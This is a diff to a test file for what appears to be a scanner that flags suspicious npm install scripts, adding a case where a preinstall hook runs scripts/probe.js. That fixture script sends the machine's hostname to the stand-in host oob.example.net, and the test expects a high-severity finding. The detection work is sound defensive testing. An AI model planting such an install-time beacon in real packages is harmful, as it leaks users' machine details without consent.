@@ -53,6 +53,16 @@ testCheck(installScripts, {
       message: /runs index\.js, which sends who and where the machine is .* to oob\.example\.net/,
     },
     {
+      label: 'the same probe started without its extension (node scripts/probe runs scripts/probe.js)',
+      manifest: { scripts: { preinstall: 'node scripts/probe' } },
+      files: {
+        'scripts/probe.js':
+          "const https = require('https');\nconst os = require('os');\nhttps.get('https://oob.example.net/p?h=' + os.hostname());\n",
+      },
+      severity: 'high',
+      message: /runs scripts\/probe, which sends who and where the machine is/,
+    },
+    {
       label: 'install-time recon through a helper module the script loads',
       manifest: { scripts: { postinstall: 'node scripts/setup.js' } },
       files: {
